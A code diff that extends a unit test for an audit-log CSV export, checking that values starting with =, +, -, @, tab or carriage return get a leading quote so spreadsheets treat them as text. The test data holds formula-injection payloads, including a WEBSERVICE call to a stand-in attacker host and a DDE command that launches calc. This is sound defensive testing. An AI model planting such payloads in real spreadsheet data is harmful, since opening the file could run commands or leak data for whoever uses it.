@@ -31,8 +31,13 @@ describe('auditCsv', () => {
     expect(rows[2].slice(2, 6)).toEqual(['+12125550103', member.id, 'Avery Admin', admin.id]);
   });
 
-  it('neutralises spreadsheet formulas', () => {
-    const csv = auditCsv([entry({ targetId: '=HYPERLINK("x")' })]);
-    expect(Papa.parse<string[]>(csv).data[1][7]).toBe(`'=HYPERLINK("x")`);
+  it('neutralises spreadsheet formulas, including + and - followed by a digit', () => {
+    const attacks = ['=HYPERLINK("x")', '-2+3+WEBSERVICE("http://evil.example/")', '+1+cmd|\' /C calc\'!A0', '@SUM(A1)', '\t=1', '\r=1'];
+    const csv = auditCsv(attacks.map((a) => entry({ targetId: a, targetType: a })));
+    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.slice(1);
+    expect(rows.map((r) => r[7])).toEqual(attacks.map((a) => `'${a}`));
+    expect(rows.map((r) => r[6])).toEqual(attacks.map((a) => `'${a}`));
+    // A phone number stays as it is.
+    expect(Papa.parse<string[]>(auditCsv([entry({ actor: member })])).data[1][2]).toBe('+12125550103');
   });
 });
